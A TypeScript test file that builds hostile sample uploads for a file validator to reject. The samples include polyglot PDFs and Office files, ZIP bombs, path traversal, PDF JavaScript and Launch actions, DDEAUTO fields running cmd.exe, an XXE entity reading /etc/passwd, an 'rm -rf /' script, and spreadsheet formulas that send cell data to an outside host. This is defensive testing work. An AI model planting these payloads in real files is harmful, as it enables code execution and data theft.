import { deflateRawSync, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import type { UploadReason } from '../refused.ts'
import { makeCompound } from './make-compound.ts'
import { makeZip } from './make-zip.ts'
import { office, officeParts, outside, pdf, picture, swollenPng } from './samples.ts'

/** Returns a field of a Word document in one or several runs. */
export const field = (...said: readonly string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${said
    .map((one) => `<w:r><w:instrText xml:space="preserve">${one}</w:instrText></w:r>`)
    .join(
      '',
    )}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

const withWord = (xml: string) => office('docx', [{ name: 'word/header1.xml', content: xml }])

const withSheet = (xml: string) =>
  office('xlsx', [{ name: 'xl/worksheets/sheet1.xml', content: `<worksheet>${xml}</worksheet>` }])

const withLink = (link: string) =>
  office('docx', [{ name: 'word/_rels/header1.xml.rels', content: `<Relationships>${link}</Relationships>` }])

const wide = (text: string) => Buffer.from(text, 'utf16le')

/** Returns an object stream, as in PDF 1.5. */
const objectStream = (
  objects: string,
  dictionary = '/Filter/FlateDecode',
  pack: (objects: Buffer) => Buffer = (objects) => deflateSync(objects),
) =>
  pdf('', '\n', [
    Buffer.from(`9 0 obj\n<</Type/ObjStm/N 1/First 4${dictionary}>>\nstream\n`),
    pack(Buffer.from(objects)),
    Buffer.from('\nendstream\nendobj\n'),
  ])

const macro = Buffer.from('Attribute VB_Name = "AutoOpen"')
/** A Java archive, which is recognised from its end. */
export const jar = makeZip([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: Evil' }])
const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)])
/** An HTML page with a script. */
export const html = Buffer.from('<!doctype html><script>alert(1)</script>')
const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')

/** A file that must be rejected: description, reason, content. */
type Attack = readonly [about: string, reason: UploadReason, make: () => Buffer | Promise<Buffer>]

export const attacks: readonly Attack[] = [
  ['nothing at all', 'notAccepted', () => Buffer.alloc(0)],
  ['a text', 'notAccepted', () => Buffer.from('Twelve bottles')],
  ['a program', 'notAccepted', () => exe],
  ['a program for Linux', 'notAccepted', () => Buffer.from('\u007fELF\u0002\u0001\u0001', 'latin1')],
  ['a shell script', 'notAccepted', () => Buffer.from('#!/bin/sh\nrm -rf /\n')],
  ['a page', 'notAccepted', () => html],
  ['an SVG', 'notAccepted', () => svg],
  ['an SVG behind a byte order mark', 'notAccepted', () => Buffer.concat([Buffer.from('\ufeff'), svg])],
  ['a GIF', 'notAccepted', () => Buffer.from('GIF89a\u0001\u0000\u0001\u0000;', 'latin1')],
  [
    'a WebP',
    'notAccepted',
    () =>
      sharp({ create: { width: 9, height: 9, channels: 3, background: '#fff' } })
        .webp()
        .toBuffer(),
  ],
  ['a RAR', 'notAccepted', () => Buffer.from('Rar!\u001a\u0007\u0000', 'latin1')],
  ['an RTF', 'notAccepted', () => Buffer.from('{\\rtf1\\ansi hello}')],
  ['PostScript', 'notAccepted', () => Buffer.from('%!PS-Adobe-3.0')],

  ['a JPEG of a few bytes', 'corrupt', () => Buffer.from('ffd8ffe0', 'hex')],
  ['a JPEG that breaks off', 'corrupt', async () => (await picture('jpeg', 400, 300)).subarray(0, 600)],
  ['a PNG that breaks off', 'corrupt', async () => (await picture('png', 400, 300)).subarray(0, 200)],
  ['a page that begins like a JPEG', 'corrupt', () => Buffer.concat([Buffer.from('ffd8ff', 'hex'), html])],
  ['a PNG of billions of pixels', 'tooManyPixels', swollenPng],

  ['a PDF without an end', 'corrupt', () => Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n')],
  ['a PDF that is no version', 'notAccepted', () => Buffer.from('%PDF-9x\n%%EOF')],
  ['a page before a PDF', 'notAccepted', () => Buffer.concat([html, pdf()])],
  ['a page after a PDF', 'polyglot', () => Buffer.concat([pdf(), html])],
  ['a Java archive after a PDF', 'polyglot', () => Buffer.concat([pdf(), jar])],
  [
    'a Java archive within a PDF',
    'polyglot',
    () => Buffer.concat([pdf(), jar.subarray(0, -2), Buffer.from([9, 0]), Buffer.from('%%EOF    ')]),
  ],
  ['a PDF with a script', 'activeContent', () => pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
  ['a PDF with an escaped script', 'activeContent', () => pdf('/OpenAction<</S/J#61v#61Script>>')],
  ['a PDF that starts a program', 'activeContent', () => pdf('/OpenAction<</S/Launch/F(cmd.exe)>>')],
  ['a PDF with a file in it', 'activeContent', () => pdf('/Names<</EmbeddedFiles 3 0 R>>')],
  ['a PDF that sends a form', 'activeContent', () => pdf('/AA<</O<</S/SubmitForm>>>>')],
  ['a locked PDF', 'encrypted', () => pdf('/Encrypt 4 0 R')],
  ['a locked PDF that writes so with an escape', 'encrypted', () => pdf('/#45ncrypt 4 0 R')],
  [
    'a PDF that opens another',
    'activeContent',
    () => pdf('/OpenAction<</S/GoToR/F(\\\\\\\\h\\\\s)/D[0/Fit]>>'),
  ],
  ['a PDF with a link to another', 'activeContent', () => pdf('/A<</S/Go#54oR/F(x.pdf)>>')],
  ['a PDF that opens a page of the web', 'activeContent', () => pdf('/OpenAction<</S/URI/URI(https://x)>>')],
  [
    'a PDF that opens a page of the web, said elsewhere',
    'activeContent',
    () => pdf('/OpenAction 7 0 R>>\nendobj\n7 0 obj\n<</Type/Action/S/URI/URI(https://x)'),
  ],
  ['a PDF whose pages do something', 'activeContent', () => pdf('/AA<</O<</S/URI/URI(https://x)>>>>')],
  ['a PDF with a form that is a program', 'activeContent', () => pdf('/AcroForm<</XFA[(a) 5 0 R]>>')],
  ['a PDF with a field’s script', 'activeContent', () => pdf('/K<</JS(app.alert\\(1\\))>>')],
  ['a PDF with a film', 'activeContent', () => pdf('/A<</S/Rendition/R 4 0 R>>')],
  ['a PDF whose stream lies in another file', 'activeContent', () => pdf('/F(x)/FFilter/FlateDecode')],
  [
    'a PDF with a script in an object stream',
    'activeContent',
    () => objectStream('5 0 <</S/JavaScript/JS(app.alert(1))>>'),
  ],
  [
    'a PDF with an escaped action in an object stream',
    'activeContent',
    () => objectStream('5 0 <</#41A<</O<</S/URI/URI(https://x)>>>>>>'),
  ],
  [
    'a PDF with an object stream packed twice',
    'activeContent',
    () =>
      objectStream('5 0 <</S/Launch>>', '/Filter[/FlateDecode/FlateDecode]', (b) =>
        deflateSync(deflateSync(b)),
      ),
  ],
  [
    'a PDF with an object stream that breaks off',
    'activeContent',
    () =>
      objectStream(`5 0 <</S/Launch>>${'x'.repeat(90)}`, '', (b) =>
        Buffer.concat([deflateSync(b).subarray(0, -9), Buffer.alloc(9, 0xff)]),
      ),
  ],
  [
    'a PDF with an object stream packed so that few programs can read it',
    'activeContent',
    () => objectStream('5 0 <</S/Launch>>', '/Filter/ASCIIHexDecode', (b) => Buffer.from(b.toString('hex'))),
  ],
  [
    'a PDF with an object in a stream that is not packed',
    'activeContent',
    () => pdf('/Length 9>>stream\n6 0 obj<</AA<</O 4 0 R>>>>endobj\nendstream<<'),
  ],

  ['a Java archive', 'notAccepted', () => jar],
  ['a plain ZIP', 'notAccepted', () => makeZip([{ name: 'list.txt', content: 'Twelve bottles' }])],
  ['a presentation', 'notAccepted', () => presentation()],
  ['a ZIP that breaks off', 'corrupt', () => office('docx').subarray(0, 300)],
  ['an empty ZIP', 'notAccepted', () => makeZip([])],
  ['a program before a document', 'notAccepted', () => Buffer.concat([exe, office('docx')])],
  ['a page between a document’s parts', 'polyglot', () => office('docx', [], { between: html })],
  ['a page before a document’s directory', 'polyglot', () => office('docx', [], { beforeDirectory: html })],
  ['a page as a document’s comment', 'polyglot', () => office('docx', [], { comment: html.toString() })],
  ['a page after a document', 'corrupt', () => Buffer.concat([office('docx'), html])],
  ['a second archive after a document', 'polyglot', () => Buffer.concat([office('docx'), jar])],
  [
    'a part outside its folder',
    'corrupt',
    () => office('docx', [{ name: '../../etc/cron.d/x', content: 'x' }]),
  ],
  ['a part at the root', 'corrupt', () => office('docx', [{ name: '/etc/passwd', content: 'x' }])],
  ['a part on another drive', 'corrupt', () => office('docx', [{ name: 'C:\\Windows\\x', content: 'x' }])],
  ['two parts of one name', 'corrupt', () => office('docx', [{ name: 'WORD/document.xml', content: 'x' }])],
  [
    'a part that is called otherwise in its own head',
    'polyglot',
    () => office('docx', [{ name: 'word/a.xml', content: 'x', lie: { localName: 'word/b.xml' } }]),
  ],
  [
    'a part with a wrong sum',
    'corrupt',
    () => office('docx', [{ name: 'word/a.xml', content: 'x', lie: { crc: 1 } }]),
  ],
  ['a locked part', 'encrypted', () => office('docx', [{ name: 'word/a.xml', content: 'x', flags: 1 }])],
  [
    'a part packed in another way',
    'corrupt',
    () => office('docx', [{ name: 'word/a.xml', content: 'x', method: 12 }]),
  ],
  [
    'a bomb that tells its size',
    'tooLarge',
    () => office('docx', [{ name: 'word/a.xml', content: 'x', lie: { unpacked: 3_000_000_000 } }]),
  ],
  [
    'a bomb that hides its size',
    'tooLarge',
    () =>
      office('docx', [{ name: 'word/a.xml', content: Buffer.alloc(30_000_000), lie: { unpacked: 1000 } }]),
  ],
  [
    'a bomb of many parts',
    'tooLarge',
    () =>
      office(
        'docx',
        Array.from({ length: 40 }, (_, n) => ({
          name: `word/${n}.xml`,
          content: 'x',
          lie: { unpacked: 60_000_000 },
        })),
      ),
  ],
  ['a bomb whose parts overlap', 'polyglot', () => overlapping()],
  [
    'more parts than any document has',
    'tooLarge',
    () =>
      office(
        'docx',
        Array.from({ length: 4100 }, (_, n) => ({ name: `word/${n}`, content: '' })),
      ),
  ],

  [
    'a document with macros',
    'activeContent',
    () => office('docx', [{ name: 'word/vbaProject.bin', content: macro }]),
  ],
  [
    'a document of the kind with macros',
    'activeContent',
    () =>
      makeZip([
        ...officeParts(
          'docx',
          '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        ),
        { name: 'word/x.xml', content: '<x/>' },
      ]),
  ],
  ...(
    [
      '<Default Extension="XML" ContentType="application/vnd.ms-excel.intlmacrosheet+xml"/>',
      '<Override PartName="/XL/%77orksheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
    ] as const
  ).map(
    (types) =>
      [
        'a workbook with a sheet of macros by its type',
        'activeContent',
        () => makeZip([...officeParts('xlsx', types), { name: 'xl/worksheets/sheet1.xml', content: '<x/>' }]),
      ] as const,
  ),
  [
    'a workbook of the kind with macros',
    'activeContent',
    () =>
      makeZip(
        officeParts('xlsx').map((part) => ({
          ...part,
          content: String(part.content).replace(
            'openxmlformats-officedocument.spreadsheetml.sheet.main',
            'ms-excel.sheet.macroEnabled.main',
          ),
        })),
      ),
  ],
  [
    'a workbook with a sheet of macros',
    'activeContent',
    () => office('xlsx', [{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }]),
  ],
  [
    'a workbook that reads others',
    'activeContent',
    () => office('xlsx', [{ name: 'xl/externalLinks/externalLink1.xml', content: '<ddeLink/>' }]),
  ],
  [
    'a document with a control',
    'activeContent',
    () => office('docx', [{ name: 'word/activeX/activeX1.xml', content: '<x/>' }]),
  ],
  [
    'a document with a wrapped program',
    'activeContent',
    () => office('docx', [{ name: 'word/embeddings/oleObject1.bin', content: exe }]),
  ],
  [
    'a document with a script in it',
    'activeContent',
    () => office('docx', [{ name: 'word/embeddings/run.js', content: 'x' }]),
  ],
  [
    'a document that loads its template',
    'activeContent',
    () => office('docx', [outside('attachedTemplate')]),
  ],
  ['a document that loads a picture', 'activeContent', () => office('docx', [outside('image')])],
  ...(
    [
      [
        'over several lines',
        '<Relationship\n Type="x/attachedTemplate" Target="http://x/" TargetMode="External"/>',
      ],
      ['in a namespace', '<r:Relationship Type="x/frame" Target="http://x/" TargetMode="External"/>'],
      ['in disguise', '<Relationship Type="x/frame" Target="http://x/" TargetMode="&#69;xternal"/>'],
      [
        'as if it were pressed',
        '<Relationship Type="x/frame" Target="Type=\'/hyperlink\'" TargetMode="External"/>',
      ],
      ['far behind', `<Relationship ${' '.repeat(9000)}Type="x/frame" TargetMode="External"/>`],
      ['without an end', '<Relationship Type="x/frame" TargetMode="External"'],
    ] as const
  ).map(
    ([about, link]): Attack => [
      `a document that loads something, said ${about}`,
      'activeContent',
      () => office('docx', [{ name: 'word/_rels/settings.xml.rels', content: link }]),
    ],
  ),
  [
    'a document with entities',
    'activeContent',
    () =>
      office('docx', [
        { name: 'word/a.xml', content: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' },
      ]),
  ],

  ...(
    [
      ['asks a program', [' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ']],
      ['asks a program, in pieces', ['DD', 'EAU', 'TO cmd']],
      ['asks a program, in disguise', ['&#68;DE cmd']],
      ['asks a program, with a comment', ['DDE<!-- -->AUTO cmd']],
      ['loads a picture', [' INCLUDEPICTURE "https://elsewhere.example/x.png" \\d ']],
      ['loads a text', [' INCLUDETEXT "\\\\\\\\elsewhere\\\\share\\\\x.docx" ']],
      ['links an object', [' LINK Excel.Sheet.8 "c:\\\\x.xls" ']],
      ['builds its name', [' QUOTE 68 68 69 ']],
    ] as const
  ).map(
    ([about, said]): Attack => [
      `a document with a field that ${about}`,
      'activeContent',
      () => withWord(field(...said)),
    ],
  ),
  [
    'a document with a field whose name is another field',
    'activeContent',
    () => withWord(field('PAGE').replace('PAGE</w:instrText>', `</w:instrText>${field('SET x DDE')}`)),
  ],
  [
    'a document with a simple field that asks a program',
    'activeContent',
    () => withWord('<w:fldSimple w:dirty="true" w:instr="DDEAUTO cmd"><w:r/></w:fldSimple>'),
  ],
  [
    'a document in UTF-16',
    'activeContent',
    () => office('docx', [{ name: 'word/header1.xml', content: wide('\ufeff<x/>') }]),
  ],
  [
    'a document that says it is in UTF-7',
    'activeContent',
    () => withWord('<?xml version="1.0" encoding="UTF-7"?><x>+ADw-</x>'),
  ],
  [
    'a document that takes in a page',
    'activeContent',
    () => withLink('<Relationship Id="r" Type="x/aFChunk" Target="page.html"/>'),
  ],
  [
    'a document with a page in it',
    'activeContent',
    () => office('docx', [{ name: 'word/page.html', content: html }]),
  ],
  [
    'a document that loads a picture without saying that it lies outside',
    'activeContent',
    () => withLink('<Relationship Id="r" Type="x/image" Target="https://elsewhere.example/x.png"/>'),
  ],
  [
    'a document with a link to another computer',
    'activeContent',
    () =>
      withLink(
        '<Relationship Id="r" Type="x/hyperlink" Target="\\\\elsewhere\\share\\x.docx" TargetMode="External"/>',
      ),
  ],
  [
    'a document with a link to a program',
    'activeContent',
    () => withLink('<Relationship Id="r" Type="x/hyperlink" Target="ms-msdt:/id" TargetMode="External"/>'),
  ],
  ['a document with a picture that is linked', 'activeContent', () => withWord('<a:blip r:link="rId5"/>')],
  [
    'a document with an old picture from elsewhere',
    'activeContent',
    () => withWord('<v:imagedata src="\\\\elsewhere\\x.png"/>'),
  ],
  [
    'a document that merges letters from a database',
    'activeContent',
    () => withWord('<w:mailMerge><w:query w:val="SELECT"/></w:mailMerge>'),
  ],
  [
    'a document with another that is not what it says',
    'corrupt',
    () => office('docx', [{ name: 'word/embeddings/a.xlsx', content: 'PK' }]),
  ],
  [
    'a document with another that has macros',
    'activeContent',
    () =>
      office('docx', [
        {
          name: 'word/embeddings/a.xlsx',
          content: office('xlsx', [{ name: 'xl/vbaProject.bin', content: macro }]),
        },
      ]),
  ],
  ...(
    [
      ['fetches a page', '<c><f>_xlfn.WEBSERVICE("https://x/"&amp;A1)</f></c>'],
      ['fetches a page, in disguise', '<c><f>WEB&#83;ERVICE("https://x")</f></c>'],
      ['fetches a page, with a comment', '<c><f>WEB<!-- -->SERVICE("https://x")</f></c>'],
      ['fetches a page, in a condition', '<x14:formula1><xm:f>webservice (A1)</xm:f></x14:formula1>'],
      ['fetches a page, in a name', '<definedName name="a">_xlfn.WEBSERVICE("https://x")</definedName>'],
      ['fetches a picture', '<c><f>_xlfn.IMAGE("https://x")</f></c>'],
      ['asks a program', "<c><f>cmd|'/c calc'!A1</f></c>"],
      ['asks a server', '<c><f>RTD("x",,"y")</f></c>'],
      ['calls a library', '<c><f>CALL("kernel32","WinExec","JCJ","calc",0)</f></c>'],
      ['sends a cell with a link', '<c><f>HYPERLINK("https://x/?"&amp;A1,"Total")</f></c>'],
      ['links to what a cell says', '<c><f>hyperlink (A1)</f></c>'],
      ['links to a program', '<c><f>HYPERLINK("file:///c:/calc.exe","Total")</f></c>'],
      ['links to a folder elsewhere', '<c><f>HYPERLINK("\\\\x\\y","Total")</f></c>'],
      ['reads a workbook elsewhere', "<c><f>'https://x/[a.xlsx]S'!A1</f></c>"],
    ] as const
  ).map(
    ([about, xml]): Attack => [
      `a workbook with a formula that ${about}`,
      'activeContent',
      () => withSheet(xml),
    ],
  ),
  ...['ZZZZZ4000000000', 'XFE1', 'A2000000', 'A00010000000'].map(
    (address): Attack => [
      `a workbook with a cell ${address}`,
      'corrupt',
      () => withSheet(`<sheetData><row r="1"><c r="${address}"><v>1</v></c></row></sheetData>`),
    ],
  ),
  [
    'a workbook with a connection',
    'activeContent',
    () => office('xlsx', [{ name: 'xl/connections.xml', content: '<connections/>' }]),
  ],

  ['an installer', 'notAccepted', () => makeCompound('\u4840\u3f3f\u4577')],
  ['an old presentation', 'notAccepted', () => makeCompound('PowerPoint Document')],
  [
    'a Java archive after an old document',
    'polyglot',
    () => Buffer.concat([makeCompound('WordDocument'), jar]),
  ],
  [
    'an old document with macros',
    'activeContent',
    () => makeCompound('WordDocument', 'Macros', 'VBA', '_VBA_PROJECT'),
  ],
  ['an old workbook with macros', 'activeContent', () => makeCompound('Workbook', '_vba_project_cur')],
  [
    'an old document with a packaged program',
    'activeContent',
    () => makeCompound('WordDocument', '\u0001Ole10Native'),
  ],
  ['a new document with a password', 'encrypted', () => makeCompound('EncryptedPackage', 'EncryptionInfo')],
]

const presentation = () =>
  makeZip(
    officeParts('docx').map((part) => ({
      ...part,
      content: String(part.content).replace('wordprocessingml.document', 'presentationml.presentation'),
    })),
  )

/** Returns an archive with two directory entries for the same content. */
function overlapping(): Buffer {
  const bytes = office('docx', [
    { name: 'word/a.xml', content: deflateRawSync(Buffer.alloc(1000)) },
    { name: 'word/b.xml', content: 'x' },
  ])
  const mark = Buffer.from('PK\u0001\u0002', 'latin1')
  const last = bytes.lastIndexOf(mark)
  const before = bytes.lastIndexOf(mark, last - 1)
  bytes.writeUInt32LE(bytes.readUInt32LE(before + 42), last + 42)
  return bytes
}
